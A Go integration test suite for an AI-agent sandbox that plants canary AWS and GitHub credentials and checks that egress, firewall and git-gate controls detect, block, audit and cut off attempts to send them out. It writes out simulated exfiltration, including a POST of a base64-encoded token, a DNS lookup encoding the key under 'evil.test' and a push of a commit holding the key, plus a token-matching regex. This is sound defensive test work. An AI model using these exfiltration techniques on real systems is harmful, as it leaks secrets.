//go:build integration

package chain

import (
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/moby/moby/client"

	"bottle.internal/internal/canary"
	"bottle.internal/internal/guestexec"
	"bottle.internal/internal/state"
	"bottle.internal/tests/eventually"
)

// guardedText is a bottle with one route that anything may be sent to, one of a provider, and
// a repository.
const guardedText = `
[bottles.b]
echo = ["api.bottle.test", "open.bottle.test", "git.bottle.test"]
supervise = true
%s

[[bottles.b.egress.routes]]
host = "open.bottle.test"
address = "private"
methods = ["GET", "POST"]
paths = ["/v1/"]

` + apiRoute + `
` + repositoryAndAgent

const openHost = "https://open.bottle.test/v1/x"

// found is what an agent finds that looks for credentials.
func (g *inhabited) found(t *testing.T) (aws, github string) {
	t.Helper()
	values := regexp.MustCompile(`(AKIA[A-Z2-7]{16}|ghp_[A-Za-z0-9]{36})`)
	aws = values.FindString(g.files["/home/agent/.aws/credentials"])
	github = values.FindString(g.files["/home/agent/.config/deploy/production.env"])
	if aws == "" || github == "" {
		t.Fatalf("nothing is planted: %q", g.files)
	}
	return aws, github
}

// gone expects that nothing answers the guest any more, on any of its ports.
func (g *inhabited) gone(t *testing.T) {
	t.Helper()
	for guests, socket := range g.sockets {
		if conn, err := net.Dial("unix", socket); err == nil {
			_ = conn.Close()
			t.Errorf("%s leads somewhere", guests)
		}
	}
	if status, said := g.curl(t, openHost); status != 0 {
		t.Errorf("curl afterwards: %s", said)
	}
}

// cut expects the host to have cut the bottle off, and to have told it everywhere.
func (g *inhabited) cut(t *testing.T, daemon, value string) {
	t.Helper()
	g.audited(t, `"source":"host"`, `"event":"cut-off"`, `"by":"`+daemon+`"`, canary.Fingerprint(value))
	seen := g.audited(t, `"source":"`+daemon+`"`, `"event":"canary"`, `"blocked":true`, canary.Fingerprint(value))
	t.Logf("audited: %s", seen)
	g.gone(t)
	g.events.AwaitText(t, "a fake credential was seen by the "+daemon)
	g.events.AwaitText(t, "is cut off")
	if code, err := g.launched.Run(t.Context(), guestexec.Stdio{}); err == nil || !strings.Contains(err.Error(), "was cut off") {
		t.Errorf("the agent's end: %d, %v", code, err)
	}
	if receipt := g.launched.Receipt(); !strings.Contains(receipt, "ALARM    canary to ") {
		t.Errorf("receipt: %s", receipt)
	}
	g.quiet(t, value)
}

// quiet expects the value nowhere in what the host keeps. The alarm is the last that it writes.
func (g *inhabited) quiet(t *testing.T, value string) {
	t.Helper()
	eventually.True(t, "the alarm is left", func() bool {
		_, err := os.Stat(filepath.Join(g.root.Dir(), g.plan.Identity, state.AlarmFile))
		return err == nil
	})
	for _, name := range []string{g.audits, filepath.Join(g.root.Dir(), g.plan.Identity, state.BundleLog), filepath.Join(g.root.Dir(), g.plan.Identity, state.AlarmFile)} {
		text, err := os.ReadFile(name)
		if err != nil || len(text) == 0 {
			t.Errorf("the control: %s: %v", name, err)
		}
		for _, form := range []string{value, base64.StdEncoding.EncodeToString([]byte(value))} {
			if strings.Contains(strings.ToLower(string(text)), strings.ToLower(form)) {
				t.Errorf("%s holds the canary:\n%s", name, text)
			}
		}
	}
}

// A canary that the real curl sends is refused before the upstream is dialed, and then the
// bottle has no network: not to any daemon, and not after the bundle came back.
func TestCanaryThroughEgress(t *testing.T) {
	g := inhabit(t, fmt.Sprintf(guardedText, ""))
	_, github := g.found(t)
	if status, said := g.curl(t, "--data", "nothing to see", openHost); status != http.StatusOK {
		t.Fatalf("the control: %s", said)
	}
	encoded := base64.StdEncoding.EncodeToString([]byte("token=" + github))
	// The cut may be faster than the refusal.
	if status, said := g.curl(t, "--data", encoded, openHost); status != http.StatusForbidden && status != 0 {
		t.Errorf("the canary: %s", said)
	}
	g.cut(t, "egress", github)
	g.audited(t, `"source":"egress"`, `"event":"close"`, `"reason":"open.bottle.test:443: the request carries a canary in its body"`, `"status":403`)
	t.Run("the bundle comes back", func(t *testing.T) {
		if _, err := g.engine.ContainerKill(t.Context(), g.container(), client.ContainerKillOptions{Signal: "KILL"}); err != nil {
			t.Fatal(err)
		}
		eventually.Fine(t, eventually.Patience, func() string {
			if g.sidecar.Gate() != "" {
				return "it is still there"
			}
			return ""
		})
		eventually.Fine(t, 40*time.Second, func() string {
			if g.sidecar.Gate() == "" {
				return "it is not there"
			}
			return ""
		})
		g.gone(t)
	})
}

// A name that is asked for is a message, too.
func TestCanaryInAName(t *testing.T) {
	g := inhabit(t, fmt.Sprintf(guardedText, `on_canary = "cut"`))
	aws, _ := g.found(t)
	if status, said := g.curl(t, "https://"+strings.ToLower(aws[:10]+"."+aws[10:])+".evil.test/"); status != 0 {
		t.Errorf("the canary: %s", said)
	}
	g.cut(t, "firewall", aws)
	g.audited(t, `"source":"firewall"`, `"event":"canary"`, `"host":"[redacted].evil.test"`)
}

func TestCanaryInAnIntermediateCommit(t *testing.T) {
	g := inhabit(t, fmt.Sprintf(guardedText, ""))
	aws, _ := g.found(t)
	w := &work{t: t, b: &g.bottle, dir: t.TempDir(), url: "http://" + g.way(t, portGit) + "/app.git"}
	w.must("clone", "--quiet", w.url, ".")
	branch := "bottle/" + g.plan.Identity + "/topic"
	w.must("checkout", "--quiet", "-b", branch)
	clean := w.commit("a.txt", "nothing to see\n")
	w.must("push", "--quiet", "origin", branch)
	if !g.upstreamHas(t, clean) {
		t.Fatal("the control: the clean push did not arrive")
	}
	found := w.commit("b.txt", "one\nkey = "+aws+"\n")
	w.must("rm", "--quiet", "b.txt")
	w.must("commit", "--quiet", "-m", "Take it out again")
	if said, err := w.git("push", "origin", branch); err == nil {
		t.Errorf("the canary: %s", said)
	}
	if refs := g.upstreamRefs(t); g.upstreamHas(t, found) || !strings.Contains(refs, clean+"\trefs/heads/"+branch+"\n") {
		t.Errorf("the upstream has it: %s", refs)
	}
	g.audited(t, `"source":"git-gate"`, `"event":"push-deny"`, `"rule":"canary"`, found)
	g.cut(t, "git-gate", aws)
	if said, err := w.git("push", "origin", clean+":refs/heads/"+branch+"2"); err == nil {
		t.Errorf("a push afterwards: %s", said)
	}
}

// With warn nothing is cut. What goes out in the open goes out; a push with a credential in it
// never does.
func TestCanaryWarns(t *testing.T) {
	g := inhabit(t, fmt.Sprintf(guardedText, `on_canary = "warn"`))
	aws, github := g.found(t)
	if status, said := g.curl(t, "--data", github, openHost); status != http.StatusOK {
		t.Errorf("the canary: %s", said)
	}
	g.audited(t, `"source":"egress"`, `"event":"canary"`, `"blocked":false`, canary.Fingerprint(github))
	w := &work{t: t, b: &g.bottle, dir: t.TempDir(), url: "http://" + g.way(t, portGit) + "/app.git"}
	w.must("clone", "--quiet", w.url, ".")
	branch := "bottle/" + g.plan.Identity + "/topic"
	w.must("checkout", "--quiet", "-b", branch)
	w.refused("a.txt:1, rule canary", w.commit("a.txt", aws), "origin", branch)
	g.audited(t, `"source":"git-gate"`, `"event":"canary"`, canary.Fingerprint(aws))
	if status, said := g.curl(t, openHost); status != http.StatusOK {
		t.Errorf("afterwards: %s", said)
	}
	if code, err := g.launched.Run(t.Context(), guestexec.Stdio{}); code != 0 || err != nil {
		t.Errorf("the agent's end: %d, %v", code, err)
	}
	if receipt := g.launched.Receipt(); !strings.Contains(receipt, "ALARM    canary to open.bottle.test:443") {
		t.Errorf("receipt: %s", receipt)
	}
	g.quiet(t, github)
	g.quiet(t, aws)
}

// What a model is shown is what the agent has read: it is told, and nothing else happens.
func TestCanaryShownToAProvider(t *testing.T) {
	g := inhabit(t, fmt.Sprintf(guardedText, ""))
	_, github := g.found(t)
	if status, said := g.curl(t, "--data", github, "https://api.bottle.test/v1/x"); status != http.StatusOK {
		t.Errorf("the canary: %s", said)
	}
	g.audited(t, `"source":"egress"`, `"event":"canary"`, `"blocked":false`, canary.Fingerprint(github))
	if status, said := g.curl(t, openHost); status != http.StatusOK {
		t.Errorf("afterwards: %s", said)
	}
}
